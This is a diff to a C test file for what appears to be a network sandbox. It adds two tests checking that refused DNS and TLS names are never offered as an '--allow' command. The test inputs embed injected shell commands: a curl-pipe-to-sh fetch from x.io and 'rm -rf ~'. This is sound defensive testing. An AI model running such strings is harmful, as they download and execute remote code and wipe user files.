@@ -31,7 +31,7 @@ static void collect(void *ctx, int stream, const char *d, size_t n)
 
 int main(void)
 {
-	plan(31);
+	plan(33);
 	/* mux: frames split at every possible point */
 	{
 		const unsigned char stream[] = {
@@ -181,6 +181,18 @@ int main(void)
 		   strstr(t.data, "must name its site"), "a refused flow: address, reason, the fix");
 		ok(t.data && strstr(t.data, "QUIC (udp/443) to 192.0.2.80 via allowed.test \xc3\x97" "4"),
 		   "a refused QUIC flow says so");
+		buf_free(&t);
+		cJSON_Delete(r);
+		/* names the agent chose are never offered as a command to run */
+		r = cJSON_Parse("[{\"record\":\"summary\",\"type\":\"dns-refused\",\"name\":\"$({curl,-s,x.io/a}|sh)\",\"count\":1},"
+				"{\"record\":\"summary\",\"type\":\"flow-refused\",\"addr\":\"192.0.2.80\",\"port\":443,"
+				"\"name\":\"a;rm -rf ~\",\"reason\":\"TLS name not allowed\",\"count\":1}]");
+		buf_init(&t, 4096);
+		pod_summary_text(r, &t);
+		ok(t.data && !strstr(t.data, "--allow $(") && strstr(t.data, "not a host name: cannot be allowed"),
+		   "a refused query name that is no host name: no allow command offered");
+		ok(t.data && !strstr(t.data, "--allow a;rm") && strstr(t.data, "no host name"),
+		   "a refused SNI that is no host name: no allow command offered");
 		buf_free(&t);
 		cJSON_Delete(r);
 	}
